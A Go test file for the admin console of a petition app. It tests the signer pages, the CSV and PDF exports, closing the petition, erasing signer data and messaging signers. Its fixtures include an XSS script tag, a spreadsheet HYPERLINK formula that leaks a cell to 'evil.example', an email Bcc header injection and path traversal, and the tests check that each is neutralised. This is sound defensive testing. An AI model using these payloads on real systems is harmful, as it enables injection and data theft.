package petitions_test

import (
	"encoding/csv"
	"fmt"
	"html"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"unionhall/internal/db"
	"unionhall/internal/dbtest"
	"unionhall/internal/mailtest"
	"unionhall/internal/petitions"
	"unionhall/internal/testenv"
)

// consEsc is s as html/template writes it in text.
func consEsc(s string) string { return strings.ReplaceAll(html.EscapeString(s), "+", "&#43;") }

// consPDFText extracts a PDF's text with poppler, as a reader would see it.
func consPDFText(t *testing.T, pdf []byte) string {
	t.Helper()
	bin, err := exec.LookPath("pdftotext")
	if err != nil {
		testenv.SkipOrFail(t, "pdftotext (poppler-utils) is needed: apt-get install poppler-utils")
	}
	in := filepath.Join(t.TempDir(), "a.pdf")
	if err := os.WriteFile(in, pdf, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(bin, "-enc", "UTF-8", in, "-").CombinedOutput()
	if err != nil {
		t.Fatalf("pdftotext: %v\n%s", err, out)
	}
	return strings.Join(strings.Fields(string(out)), " ")
}

// The signers of the petition tests.
var (
	consHostile = petitions.Signer{Name: `Ána <script>alert(1)</script>`, Email: "ana@example.org", City: "Brno",
		Workplace: `=HYPERLINK("http://evil.example/?q="&A1)`, Comment: "-2+3, \"quoted\"\nsecond line"}
	consBorek  = petitions.Signer{Name: "Bořek Dvořák", Email: "borek@example.org", City: "Praha"}
	consJovana = petitions.Signer{Name: "Јована Јовановић", Email: "jovana@example.org", City: "Београд", Workplace: "@SUM(1)"}
	consHidden = petitions.Signer{Name: "Skrytá Osoba", Email: "hidden@example.org", City: "Brno"}
	consPend   = petitions.Signer{Name: "Pending Pat", Email: "pat@example.org", City: "Ostrava"}
)

// seed signs the petition: three named signers, one who did not agree to
// be named, five more from Praha (so Praha reaches the per-city threshold
// and Brno does not), spread over two days, and one pending signature.
func (r *consRig) seed(t *testing.T) {
	t.Helper()
	r.signByEmail(t, "en", consHostile, true, true)
	r.signConfirmed(t, "cs", consBorek, true)
	r.clock.Add(24 * time.Hour)
	r.signByEmail(t, "en", consJovana, true, true)
	r.signConfirmed(t, "cs", consHidden, false)
	for i, name := range []string{"Eva", "Filip", "Gita", "Hana", "Ivo"} {
		city := "Praha"
		if i%2 == 1 {
			city = " praha " // one city however it is typed
		}
		r.signConfirmed(t, "cs", petitions.Signer{Name: name + " Nová", Email: strings.ToLower(name) + "@example.org", City: city}, false)
	}
	r.signByEmail(t, "en", consPend, true, false)
}

// TestConsolePetitionPages walks the organisers' pages over HTTP on both
// databases: the list, the petition page (counts, the per-day chart and
// table, per-city counts only from five, the signers escaped), the CSV
// and the delivery PDF, each audited.
func TestConsolePetitionPages(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		r := newConsRig(t, d)
		r.seed(t)
		viewer := r.login(t, "viewer@example.org", []string{petitions.ListPetitions})
		base := r.srv.URL + "/admin/petitions"

		// The list: 9 confirmed, 1 pending, the goal, open.
		res := consDo(t, viewer, "GET", base, "en", nil)
		if res.Code != 200 || !strings.Contains(res.Body, `href="/admin/petitions/rent"`) || !strings.Contains(res.Body, "<td>9</td><td>1</td>") ||
			!strings.Contains(res.Body, "100 (9 %)") || !strings.Contains(res.Body, consText("en", "pet.state.open")) {
			t.Fatalf("list: %d\n%s", res.Code, res.Body)
		}

		for _, lang := range []string{"en", "cs"} {
			res = consDo(t, viewer, "GET", base+"/rent", lang, nil)
			if res.Code != 200 {
				t.Fatalf("%s petition page: %d\n%.500s", lang, res.Code, res.Body)
			}
			b := res.Body
			for _, want := range []string{`id="confirmed">9<`, `id="pending">1<`, `id="named">3<`,
				// The chart: an image named by its title and desc, and the
				// same numbers in a table.
				`<svg class="chart" role="img" aria-labelledby="chart-title chart-desc"`, `<title id="chart-title">`,
				"<td>2026-06-01</td><td>2</td>", "<td>2026-06-02</td><td>7</td>",
				// Praha (6, typed two ways) is named; Brno (2), Београд (1) are not.
				"<td>Praha</td><td>6</td>", "<td>" + consEsc(consText(lang, "pet.other_cities")) + "</td><td>3</td>",
				// A hostile name is text.
				"Ána &lt;script&gt;alert(1)&lt;/script&gt;", "Јована Јовановић", "Pending Pat",
				// What organisers copy to embed the petition elsewhere.
				`&lt;iframe src=&#34;` + r.srv.URL + `/petitions/rent/embed?lang=cs&#34;`, `<code id="count-json">` + r.srv.URL + `/petitions/rent/count.json</code>`,
			} {
				if !strings.Contains(b, want) {
					t.Errorf("%s petition page lacks %q", lang, want)
				}
			}
			if strings.Contains(b, "<script>alert") {
				t.Errorf("%s petition page runs a signer's script", lang)
			}
			cities := b[strings.Index(b, `id="cities"`):]
			cities = cities[:strings.Index(cities, "</table>")]
			for _, bad := range []string{"Brno", "Београд", "Ostrava"} {
				if strings.Contains(cities, bad) {
					t.Errorf("%s petition page shows %q", lang, bad)
				}
			}
			// list-petitions alone sees no management.
			if strings.Contains(b, `id="close"`) || strings.Contains(b, `action="/admin/petitions/rent/message"`) {
				t.Errorf("%s: a viewer is offered closing or messaging", lang)
			}
		}
		if n := r.auditCount(t, "petition.view"); n != 2 {
			t.Errorf("petition.view audited %d times, want 2", n)
		}
		// A page of signers that does not exist, and one that is no number.
		for _, q := range []string{"?page=2", "?page=x", "?page=-1"} {
			if res := consDo(t, viewer, "GET", base+"/rent"+q, "en", nil); res.Code != 404 {
				t.Errorf("%s: %d", q, res.Code)
			}
		}
		for _, u := range []string{"/nope", "/RENT", "/..%2f", "/" + strings.Repeat("a", 65)} {
			if res := consDo(t, viewer, "GET", base+u, "en", nil); res.Code != 404 {
				t.Errorf("GET %s: %d, want 404", u, res.Code)
			}
		}

		// The CSV: every signature, a BOM for spreadsheets, formulas
		// defused, hostile text inert in its own cell.
		res = consDo(t, viewer, "POST", base+"/rent/export", "en", url.Values{})
		if res.Code != 200 || res.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
			!strings.HasPrefix(res.Header.Get("Content-Disposition"), "attachment;") {
			t.Fatalf("export: %d %v", res.Code, res.Header)
		}
		if !strings.HasPrefix(res.Body, "\ufeff") {
			t.Fatal("the CSV does not start with a byte-order mark")
		}
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body, "\ufeff"))).ReadAll()
		if err != nil || len(recs) != 11 {
			t.Fatalf("csv: %d records, %v", len(recs), err)
		}
		col := map[string]int{}
		for i, h := range recs[0] {
			col[h] = i
		}
		byEmail := map[string][]string{}
		for _, rec := range recs[1:] {
			if len(rec) != len(recs[0]) {
				t.Fatalf("a row of %d cells under %d columns: %q", len(rec), len(recs[0]), rec)
			}
			byEmail[rec[col["email"]]] = rec
		}
		ana := byEmail["ana@example.org"]
		if ana[col["name"]] != consHostile.Name || ana[col["workplace"]] != "'"+consHostile.Workplace ||
			ana[col["comment"]] != "'"+consHostile.Comment || ana[col["status"]] != "confirmed" || ana[col["show_name"]] != "yes" {
			t.Errorf("hostile row: %q", ana)
		}
		if got := byEmail["jovana@example.org"][col["workplace"]]; got != "'@SUM(1)" {
			t.Errorf("@ formula: %q", got)
		}
		if got := byEmail["pat@example.org"][col["status"]]; got != "pending" {
			t.Errorf("pending row: %q", got)
		}
		if r.auditCount(t, "export.petition") != 1 {
			t.Error("export not audited")
		}

		// The delivery PDF in both languages: the petition, its target,
		// the count, and only the names and cities of those who agreed.
		for _, lang := range []string{"en", "cs"} {
			res = consDo(t, viewer, "POST", base+"/rent/pdf", "en", url.Values{"lang": {lang}})
			if res.Code != 200 || res.Header.Get("Content-Type") != "application/pdf" || !strings.HasPrefix(res.Body, "%PDF-") {
				t.Fatalf("%s pdf: %d %v %.200s", lang, res.Code, res.Header, res.Body)
			}
			text := consPDFText(t, []byte(res.Body))
			title, target := "Fair rent for IT workers", "Ministry of Regional Development"
			if lang == "cs" {
				title, target = "Férové nájmy pro ajťáky", "Ministerstvo pro místní rozvoj"
			}
			for _, want := range []string{title, target, consText(lang, "pet.pdf.count", "n", "9"),
				"Ána <script>alert(1)</script>", "Bořek Dvořák", "Praha", "Јована Јовановић", "Београд"} {
				if !strings.Contains(text, want) {
					t.Errorf("%s pdf lacks %q:\n%s", lang, want, text)
				}
			}
			for _, bad := range []string{"Skrytá", "Pending", "Eva Nová", "@example.org", "HYPERLINK", "Ostrava"} {
				if strings.Contains(text, bad) {
					t.Errorf("%s pdf names %q, who did not agree (or is not a name)", lang, bad)
				}
			}
		}
		if !strings.Contains(consPDFText(t, []byte(consDo(t, viewer, "POST", base+"/rent/pdf", "en", url.Values{"lang": {"en"}}).Body)),
			"Second paragraph: Ďábelské č, ř, ž and Љубица") {
			t.Error("the petition text (diacritics, Cyrillic) is not in the PDF")
		}
		if n := r.auditCount(t, "petition.pdf"); n != 3 {
			t.Errorf("petition.pdf audited %d times, want 3", n)
		}
		for _, lang := range []string{"en", "cs"} {
			res = consDo(t, viewer, "POST", base+"/rent/pdf", lang, url.Values{"lang": {"de\r\n"}})
			if res.Code != 400 || !strings.Contains(res.Body, consEsc(consText(lang, "pet.err.pdf_lang"))) {
				t.Errorf("%s pdf in an unknown language: %d", lang, res.Code)
			}
		}
	})
}

// TestConsolePetitionClose: closing early asks for a confirmation; every
// wrong submission comes back in the person's language; closing and
// reopening are audited and change the state.
func TestConsolePetitionClose(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		r := newConsRig(t, d)
		r.signConfirmed(t, "cs", consBorek, true)
		viewer := r.login(t, "viewer@example.org", []string{petitions.ListPetitions})
		manager := r.login(t, "manager@example.org", []string{petitions.ListPetitions, petitions.ManagePetitions})
		base := r.srv.URL + "/admin/petitions/rent"

		if res := consDo(t, viewer, "POST", base+"/close", "en", url.Values{"op": {"close"}, "confirm": {"yes"}}); res.Code != 403 {
			t.Fatalf("a viewer closing: %d", res.Code)
		}
		if res := consDo(t, manager, "GET", base, "en", nil); !strings.Contains(res.Body, `href="/admin/petitions/rent/close" id="close"`) {
			t.Fatal("no close link for a manager")
		}
		for _, lang := range []string{"en", "cs"} {
			res := consDo(t, manager, "GET", base+"/close", lang, nil)
			if res.Code != 200 || !strings.Contains(res.Body, consEsc(consText(lang, "pet.close_warning"))) {
				t.Fatalf("%s close form: %d", lang, res.Code)
			}
			for _, tc := range []struct {
				form url.Values
				code int
				want string
			}{
				{url.Values{"op": {"close"}}, 422, consText(lang, "pet.err.confirm")},
				{url.Values{"op": {"close"}, "confirm": {"no"}}, 422, consText(lang, "pet.err.confirm")},
				{url.Values{"op": {"<script>"}, "confirm": {"yes"}}, 422, consText(lang, "err.choose")},
				{url.Values{"op": {"reopen"}, "confirm": {"yes"}}, 409, consText(lang, "pet.err.not_closed_early")},
			} {
				res := consDo(t, manager, "POST", base+"/close", lang, tc.form)
				if res.Code != tc.code || !strings.Contains(res.Body, consEsc(tc.want)) || !strings.Contains(res.Body, `id="error-summary"`) {
					t.Errorf("%s close %v: %d, want %d with %q", lang, tc.form, res.Code, tc.code, tc.want)
				}
			}
		}
		if p := r.petition(t, "en"); !p.Open(r.clock.Now()) {
			t.Fatal("a refused close closed the petition")
		}
		res := consDo(t, manager, "POST", base+"/close", "en", url.Values{"op": {"close"}, "confirm": {"yes"}})
		if res.Code != 303 || res.Body != "/admin/petitions/rent?done=petition_closed" {
			t.Fatalf("close: %d %s", res.Code, res.Body)
		}
		if p := r.petition(t, "en"); p.Open(r.clock.Now()) || p.ClosedEarly.IsZero() || p.EraseAt.IsZero() {
			t.Fatalf("after close: %+v", p)
		}
		if res := consDo(t, manager, "GET", base, "cs", nil); !strings.Contains(res.Body, consText("cs", "pet.state.closed_early_on", "when", "2026-06-01 12:00")) ||
			!strings.Contains(res.Body, `id="reopen"`) {
			t.Errorf("closed page: %.3000s", res.Body)
		}
		if res := consDo(t, manager, "POST", base+"/close", "cs", url.Values{"op": {"close"}, "confirm": {"yes"}}); res.Code != 409 ||
			!strings.Contains(res.Body, consEsc(consText("cs", "pet.err.already_closed"))) {
			t.Errorf("closing twice: %d", res.Code)
		}
		res = consDo(t, manager, "POST", base+"/close", "en", url.Values{"op": {"reopen"}, "confirm": {"yes"}})
		if res.Code != 303 || !r.petition(t, "en").Open(r.clock.Now()) {
			t.Fatalf("reopen: %d %s", res.Code, res.Body)
		}
		if r.auditCount(t, "petition.close") != 1 || r.auditCount(t, "petition.reopen") != 1 {
			t.Error("close/reopen not audited once each")
		}

		// Closed again and past the retention: the sweep erases the
		// signers; the page keeps the counts and the day, the export and
		// reopening are refused, in both languages.
		if res := consDo(t, manager, "POST", base+"/close", "en", url.Values{"op": {"close"}, "confirm": {"yes"}}); res.Code != 303 {
			t.Fatalf("close again: %d", res.Code)
		}
		r.clock.Add(91 * 24 * time.Hour)
		if n, err := r.svc.EraseDue(t.Context()); err != nil || n != 1 {
			t.Fatalf("erase: %d %v", n, err)
		}
		for _, lang := range []string{"en", "cs"} {
			res := consDo(t, viewer, "GET", base, lang, nil)
			if res.Code != 200 || !strings.Contains(res.Body, `id="confirmed">1<`) || !strings.Contains(res.Body, "<td>2026-06-01</td><td>1</td>") ||
				strings.Contains(res.Body, "Bořek") || !strings.Contains(res.Body, consEsc(consText(lang, "pet.erased_note"))) || strings.Contains(res.Body, `id="export"`) {
				t.Errorf("%s erased page: %d\n%.3000s", lang, res.Code, res.Body)
			}
			if res := consDo(t, viewer, "POST", base+"/export", lang, url.Values{}); res.Code != 409 || !strings.Contains(res.Body, consEsc(consText(lang, "pet.err.erased"))) {
				t.Errorf("%s export after erasure: %d", lang, res.Code)
			}
			if res := consDo(t, manager, "POST", base+"/close", lang, url.Values{"op": {"reopen"}, "confirm": {"yes"}}); res.Code != 409 || !strings.Contains(res.Body, consEsc(consText(lang, "pet.err.erased"))) {
				t.Errorf("%s reopen after erasure: %d", lang, res.Code)
			}
			pdf := consDo(t, viewer, "POST", base+"/pdf", lang, url.Values{"lang": {lang}})
			if text := consPDFText(t, []byte(pdf.Body)); pdf.Code != 200 || strings.Contains(text, "Bořek") || !strings.Contains(text, consText(lang, "pet.pdf.count", "n", "1")) {
				t.Errorf("%s pdf after erasure: %d %s", lang, pdf.Code, text)
			}
		}
	})
}

// TestConsolePetitionMessage: a message to the confirmed signers, each in
// the language they signed in, through the outbox to the SMTP server once
// per signer; every bad input comes back in both languages with what was
// typed; a subject with a line break (header injection) is refused.
func TestConsolePetitionMessage(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		r := newConsRig(t, d)
		r.signByEmail(t, "en", consHostile, true, true)
		r.signConfirmed(t, "cs", consBorek, true)
		r.signConfirmed(t, "en", consJovana, false)
		r.signByEmail(t, "en", consPend, false, false)
		manager := r.login(t, "manager@example.org", []string{petitions.ListPetitions, petitions.ManagePetitions})
		base := r.srv.URL + "/admin/petitions/rent"
		good := url.Values{"subject.cs": {"Předáváme petici"}, "text.cs": {"Děkujeme, předáme ji v pondělí.\n<b>tučně</b>"},
			"subject.en": {"We deliver the petition"}, "text.en": {"Thank you, we deliver it on Monday.\n<b>bold</b>"}, "op": {"preview"}}
		with := func(k, v string) url.Values {
			f := url.Values{}
			for kk, vv := range good {
				f[kk] = vv
			}
			f.Set(k, v)
			return f
		}
		for _, lang := range []string{"en", "cs"} {
			for _, tc := range []struct {
				form        url.Values
				field, want string
				typed       string // shown again in the field, escaped
			}{
				{with("subject.en", ""), "subject.en", consText(lang, "err.required"), ""},
				{with("text.cs", "  "), "text.cs", consText(lang, "err.required"), ""},
				{with("subject.en", "Hi\r\nBcc: all@evil.example"), "subject.en", consText(lang, "err.control"), "Hi�Bcc: all@evil.example"},
				{with("subject.cs", "Ahoj\u202Eevil"), "subject.cs", consText(lang, "err.bidi"), "Ahoj�evil"},
				{with("text.en", strings.Repeat("x", 10001)), "text.en", consText(lang, "err.too_long", "max", 10000, "n", 10001), ""},
				{with("subject.en", `<script>alert("s")</script>`+strings.Repeat("y", 200)), "subject.en", consText(lang, "err.too_long", "max", 200, "n", 227), `&lt;script&gt;alert(&#34;s&#34;)&lt;/script&gt;`},
				{with("op", "launch"), "", consText(lang, "pet.err.message_op"), ""},
			} {
				res := consDo(t, manager, "POST", base+"/message", lang, tc.form)
				if res.Code != 422 || !strings.Contains(res.Body, consEsc(tc.want)) {
					t.Errorf("%s %s: %d, want 422 with %q", lang, tc.field, res.Code, tc.want)
					continue
				}
				if tc.field != "" && !strings.Contains(res.Body, `aria-invalid="true"`) {
					t.Errorf("%s %s: the field is not marked", lang, tc.field)
				}
				// What was typed in the other fields is kept.
				if !strings.Contains(res.Body, "Děkujeme, předáme ji v pondělí.\n&lt;b&gt;tučně&lt;/b&gt;") && tc.field != "text.cs" {
					t.Errorf("%s %s: the Czech text was lost", lang, tc.field)
				}
				if tc.typed != "" && !strings.Contains(res.Body, consEsc(tc.typed)) && !strings.Contains(res.Body, tc.typed) {
					t.Errorf("%s %s: the typed value %q is not shown again", lang, tc.field, tc.typed)
				}
			}
		}
		// A viewer cannot write.
		viewer := r.login(t, "viewer@example.org", []string{petitions.ListPetitions})
		if res := consDo(t, viewer, "POST", base+"/message", "en", good); res.Code != 403 {
			t.Fatalf("a viewer messaging: %d", res.Code)
		}
		// The preview: both versions, markup as text, three recipients.
		res := consDo(t, manager, "POST", base+"/message", "en", good)
		if res.Code != 200 || !strings.Contains(res.Body, `id="count">3<`) || !strings.Contains(res.Body, "&lt;b&gt;bold&lt;/b&gt;") ||
			!strings.Contains(res.Body, "Předáváme petici") {
			t.Fatalf("preview: %d\n%.2000s", res.Code, res.Body)
		}
		before := len(r.smtp.Messages())
		send := with("op", "send")
		if res := consDo(t, manager, "POST", base+"/message", "en", send); res.Code != 303 || res.Body != "/admin/petitions/rent?done=petition_messaged" {
			t.Fatalf("send: %d %s", res.Code, res.Body)
		}
		// Each confirmed signer gets it once, in their language; the
		// pending one gets nothing.
		want := map[string]string{"ana@example.org": "We deliver the petition", "borek@example.org": "Předáváme petici", "jovana@example.org": "We deliver the petition"}
		got := r.waitMessages(t, before, 3)
		seen := map[string]int{}
		for _, m := range got {
			to := m.To[0]
			seen[to]++
			if m.Subject != want[to] {
				t.Errorf("%s got subject %q, want %q", to, m.Subject, want[to])
			}
			footer := "signed the petition “Fair rent for IT workers”"
			if to == "borek@example.org" {
				footer = "podepsali petici „Férové nájmy pro ajťáky“"
			}
			if !strings.Contains(m.Text, footer) || !strings.Contains(m.Text, r.srv.URL+"/") {
				t.Errorf("%s: footer missing:\n%s", to, m.Text)
			}
			if m.Header.Get("Bcc") != "" {
				t.Errorf("%s: a Bcc header", to)
			}
		}
		if len(seen) != 3 || seen["pat@example.org"] != 0 {
			t.Errorf("recipients: %v", seen)
		}
		if r.auditCount(t, "petition.message") != 1 {
			t.Error("message not audited")
		}
		// Nothing more arrives (the queue is drained: a later email would be
		// a duplicate).
		r.signConfirmed(t, "en", petitions.Signer{Name: "Late", Email: "late@example.org", City: "Kladno"}, false)
		if extra := r.waitMessages(t, before, 3); len(extra) != 3 {
			t.Errorf("%d messages after the send, want 3", len(extra))
		}
	})
}

// waitMessages waits (polling, with a deadline) until at least n emails
// arrived after the first skip, and returns those that carry no
// confirmation link (the console's messages).
func (r *consRig) waitMessages(t *testing.T, skip, n int) []*mailtest.Message {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	var out []*mailtest.Message
	for time.Now().Before(deadline) {
		out = out[:0]
		for _, m := range r.smtp.Messages()[skip:] {
			if !consTokenRE.MatchString(m.Text) {
				out = append(out, m)
			}
		}
		if len(out) >= n {
			// The outbox has no more jobs for these: nothing else is due.
			if r.queueIdle(t) {
				return out
			}
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("%d of %d messages arrived", len(out), n)
	return nil
}

// queueIdle reports whether the job queue holds no email job still to run.
func (r *consRig) queueIdle(t *testing.T) bool {
	t.Helper()
	var n int
	if err := r.d.QueryRow(t.Context(), `SELECT COUNT(*) FROM jobs WHERE kind = 'mail.send' AND state IN ('pending', 'running')`).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n == 0
}

// TestConsoleSignersPaged: the signers table shows 200 at a time,
// confirmed first and pending last, with links to the other pages; the
// counts above it are over everyone.
func TestConsoleSignersPaged(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		r := newConsRig(t, d)
		for i := range 203 {
			r.signConfirmed(t, "cs", petitions.Signer{Name: fmt.Sprintf("Signer %03d", i), Email: fmt.Sprintf("s%03d@example.org", i), City: "Praha"}, i%2 == 0)
			r.clock.Add(time.Minute)
		}
		r.signByEmail(t, "en", consPend, false, false)
		viewer := r.login(t, "viewer@example.org", []string{petitions.ListPetitions})
		base := r.srv.URL + "/admin/petitions/rent"
		rowsOf := func(body string) []string {
			tb := body[strings.Index(body, `id="signers-table"`):]
			tb = tb[:strings.Index(tb, "</tbody>")]
			return regexp.MustCompile(`(Signer \d{3}|Pending Pat)`).FindAllString(tb, -1)
		}
		res := consDo(t, viewer, "GET", base, "en", nil)
		rows := rowsOf(res.Body)
		if res.Code != 200 || len(rows) != 200 || rows[0] != "Signer 000" || rows[199] != "Signer 199" ||
			!strings.Contains(res.Body, `href="/admin/petitions/rent?page=2#signers" rel="next"`) || strings.Contains(res.Body, `rel="prev"`) ||
			!strings.Contains(res.Body, `id="confirmed">203<`) || !strings.Contains(res.Body, `id="named">102<`) || !strings.Contains(res.Body, "<td>Praha</td><td>203</td>") {
			t.Fatalf("page 1: %d, %d rows %v", res.Code, len(rows), rows[:min(3, len(rows))])
		}
		res = consDo(t, viewer, "GET", base+"?page=2", "cs", nil)
		rows = rowsOf(res.Body)
		if res.Code != 200 || strings.Join(rows, ",") != "Signer 200,Signer 201,Signer 202,Pending Pat" ||
			!strings.Contains(res.Body, `href="/admin/petitions/rent?page=1#signers" rel="prev"`) || strings.Contains(res.Body, `rel="next"`) ||
			!strings.Contains(res.Body, consText("cs", "pet.page_of", "page", 2, "last", 2)) {
			t.Fatalf("page 2: %d %v", res.Code, rows)
		}
		if res := consDo(t, viewer, "GET", base+"?page=3", "en", nil); res.Code != 404 {
			t.Errorf("page 3: %d", res.Code)
		}
	})
}
